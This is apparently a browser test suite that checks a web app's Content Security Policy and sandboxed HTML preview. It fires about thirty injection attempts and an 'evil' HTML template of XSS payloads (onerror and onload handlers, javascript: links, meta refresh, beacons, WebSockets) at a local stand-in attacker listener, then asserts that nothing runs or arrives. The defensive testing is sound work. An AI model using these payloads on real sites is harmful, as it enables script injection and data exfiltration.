// The page's policy, by trying: whatever gets into the page by some fault still runs nothing and reaches nobody.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { test } from "node:test";
import { go, rightCampaign, withDraft } from "./composer.mjs";
import { suite } from "./harness.mjs";

const { visit } = suite();

/** What the browser says when it stops something. */
const STOPPED = /Content Security Policy|Content-Security-Policy|violates the following|sandbox/i;

/** Another host, that writes down whatever reaches it. */
async function listen(t) {
  const reached = [];
  const server = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/html" }).end("caught");
  });
  await new Promise((listening) => server.listen(0, "127.0.0.1", listening));
  t.after(() => server.close());
  return { reached, url: `http://127.0.0.1:${server.address().port}/` };
}

/** What somebody would try: its name, the directive that stops it, and what it does with the other host's address. */
const ATTEMPTS = [
  ["a script in the page", "script-src-elem", () => add("script", { textContent: "globalThis.caught = 1" })],
  ["a script of another host", "script-src-elem", (there) => add("script", { src: `${there}a.js` })],
  ["a module of another host", "script-src-elem", (there) => import(`${there}b.js`).catch(() => {})],
  ["a script out of a blob", "script-src-elem", () => add("script", { src: URL.createObjectURL(new Blob(["globalThis.caught = 1"])) })],
  ["a script out of a data address", "script-src-elem", () => add("script", { src: "data:text/javascript,globalThis.caught=1" })],
  ["a handler in markup", "script-src-attr", () => into("<img src=data:, onerror='globalThis.caught = 1'>")],
  ["a handler of a drawing", "script-src-attr", () => into("<svg onload='globalThis.caught = 1'></svg>").firstElementChild.dispatchEvent(new Event("load"))],
  ["text run as a script", "script-src", () => { try { (0, eval)("globalThis.caught = 1"); } catch { /* as it should */ } }],
  ["text made a function", "script-src", () => { try { new Function("globalThis.caught = 1")(); } catch { /* as it should */ } }],
  ["text run later", "script-src", () => { setTimeout("globalThis.caught = 1"); }],
  ["a javascript: link", "script-src-elem", () => into("<a href='javascript:globalThis.caught = 1'>x</a>").querySelector("a").click()],
  ["a javascript: address", "script-src-elem", () => { location.href = "javascript:globalThis.caught = 1"; }],
  ["a style in the page", "style-src-elem", () => add("style", { textContent: "body { display: none }" })],
  ["a style of another host", "style-src-elem", (there) => add("link", { rel: "stylesheet", href: `${there}c.css` })],
  ["a style attribute", "style-src-attr", () => into("<p style='position: fixed'>x</p>")],
  ["an image that tells another host", "img-src", (there) => add("img", { src: `${there}d.png` })],
  ["an image built in memory", "img-src", (there) => { new Image().src = `${there}e.png`; }],
  ["a video", "media-src", (there) => add("video", { src: `${there}f.mp4` })],
  ["a font", "font-src", (there) => { new FontFace("x", `url(${there}g.woff)`).load().catch(() => {}); }],
  ["a plug-in", "object-src", (there) => add("object", { data: `${there}h` })],
  ["a frame of another host", "frame-src", (there) => add("iframe", { src: `${there}i` })],
  ["a frame out of a data address", "frame-src", () => add("iframe", { src: "data:text/html,x" })],
  ["a request", "connect-src", (there) => { fetch(`${there}j`, { mode: "no-cors" }).catch(() => {}); }],
  ["an older request", "connect-src", (there) => { const request = new XMLHttpRequest(); request.open("GET", `${there}k`); request.onerror = () => {}; request.send(); }],
  ["a beacon", "connect-src", (there) => { navigator.sendBeacon(`${there}l`, "x"); }],
  ["a socket", "connect-src", (there) => { new WebSocket(there.replace("http", "ws")).onerror = () => {}; }],
  ["a stream of events", "connect-src", (there) => { new EventSource(`${there}m`).onerror = () => {}; }],
  ["a worker of another kind", "worker-src", () => { new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onerror = () => {}; }],
  ["a form", "form-action", (there) => into(`<form action='${there}n' method=post><input name=title></form>`).querySelector("form").submit()],
  ["another base for every address", "base-uri", (there) => add("base", { href: there })],
  ["a manifest of another host", "manifest-src", (there) => { document.querySelector("link[rel=manifest]").remove(); add("link", { rel: "manifest", href: `${there}o.webmanifest` }); }, { silent: true }],
  ["a page fetched ahead", "default-src", (there) => add("link", { rel: "prefetch", href: `${there}p` }), { silent: true }],
];

/** What the attempts are written with, in the page. */
function helpers() {
  globalThis.stopped = [];
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => globalThis.stopped.push(effectiveDirective));
  globalThis.add = (name, properties) => {
    const element = Object.assign(document.createElement(name), properties);
    document.body.append(element);
    return element;
  };
  globalThis.into = (markup) => {
    const place = document.createElement("div");
    document.body.append(place);
    place.innerHTML = markup;
    return place;
  };
}

test("nothing that gets into the page runs, looks or speaks", async (t) => {
  const { reached, url: there } = await listen(t);
  const { page, witness } = await visit(t, { complaints: [STOPPED], tolerated: /./ });
  await page.evaluate(helpers);
  const address = page.url();
  for (const [name, directive, attempt, { silent = false } = {}] of ATTEMPTS) {
    await t.test(name, async () => {
      await page.evaluate(() => { globalThis.stopped.length = 0; });
      // In the page's own time: what a test calls directly may do more than the page itself.
      await page.evaluate(`setTimeout(() => (${attempt})(${JSON.stringify(there)})), undefined`);
      // Browsers tell of what they fetch at leisure late, or never.
      if (silent) await page.waitForTimeout(200);
      else await page.waitForFunction((directive) => globalThis.stopped.includes(directive), directive, { timeout: 5000 });
      assert.equal(await page.evaluate(() => globalThis.caught), undefined);
      assert.equal(page.url(), address);
    });
  }
  await page.waitForTimeout(500);
  assert.deepEqual(reached, [], "another host was reached");
  // For the witness, what the browser stops is a request too; the other host knows better.
  witness.foreign.length = 0;
  const goesOn = await page.evaluate(async () => {
    const title = document.querySelector("main textarea");
    title.value = "Hamlet???";
    title.dispatchEvent(new InputEvent("input", { bubbles: true }));
    await new Promise((painted) => requestAnimationFrame(() => setTimeout(painted)));
    return document.querySelector(".problems").innerText.includes("“???”");
  });
  assert.ok(goesOn, "the page goes on");
});

/** Custom HTML of an in-app message that tries the same in the preview. */
const evil = (there) => `<!doctype html><html><head>
  <meta http-equiv="refresh" content="0;url=${there}refresh"><base href="${there}"><link rel="stylesheet" href="${there}link.css">
  <link rel="prefetch" href="${there}prefetch"><style>@import url(${there}import.css); body { background: url(${there}background.png) } p { color: rgb(1, 2, 3) }</style>
  <script>parent.caught = top.caught = globalThis.caught = 1</script><script src="${there}script.js"></script></head>
  <body onload="parent.postMessage('caught', '*')"><p>Welcome to the festival</p>
  <img src="${there}image.png"><img src=x onerror="fetch('${there}handler')"><svg onload="fetch('${there}svg')"><image href="${there}svg.png"/></svg>
  <video src="${there}video.mp4" poster="${there}poster.png"></video><iframe src="${there}frame"></iframe><object data="${there}object"></object>
  <form action="${there}form" method="post"><button id="send">Send</button></form>
  <a id="top" href="${there}top" target="_top">Up</a><a id="self" href="${there}self">Here</a><a id="new" href="${there}new" target="_blank">New</a>
  <a id="script" href="javascript:parent.postMessage('caught','*')">Run</a></body></html>`;

test("custom HTML shows in the preview, runs nothing, reaches nobody and leads nowhere", async (t) => {
  const { reached, url: there } = await listen(t);
  const campaign = await rightCampaign("in-app");
  Object.assign(campaign.what, { template: "custom_html", html: evil(there) });
  const { page, context, witness } = await visit(t, { prepare: withDraft(campaign), tolerated: STOPPED });
  await page.evaluate(() => addEventListener("message", ({ data }) => { if (data === "caught") globalThis.caught = 1; }));
  for (const step of ["Who", "What"]) await go(page, step);
  const frame = page.frameLocator("iframe.html-frame");
  await frame.getByText("Welcome to the festival").waitFor();
  assert.equal(await frame.locator("p").evaluate((p) => getComputedStyle(p).color), "rgb(1, 2, 3)", "its styles show");
  const address = page.url();
  for (const id of ["send", "top", "self", "new", "script"]) {
    await frame.locator(`#${id}`).evaluate((element) => element.click());
    await page.waitForTimeout(150);
  }
  await frame.getByText("Welcome to the festival").waitFor();
  await page.waitForTimeout(500);
  assert.deepEqual(reached, [], "another host was reached");
  witness.foreign.length = 0;
  assert.equal(await page.evaluate(() => globalThis.caught), undefined);
  assert.equal(page.url(), address);
  assert.equal(context.pages().length, 1, "no window was opened");
});

test("where the policy of a host refuses WebAssembly, the page says what it needs", async (t) => {
  const { page } = await visit(t, {
    ready: false,
    // A host whose policy forbids WebAssembly.
    change: (name, content) => (name === "index.html" ? content.toString().replace("'wasm-unsafe-eval'", "") : undefined),
    tolerated: /./,
  });
  await page.getByRole("alert").waitFor();
  assert.match(await page.getByRole("alert").innerText(), /WebAssembly is missing, switched off or too old.*allow WebAssembly for this site/);
});
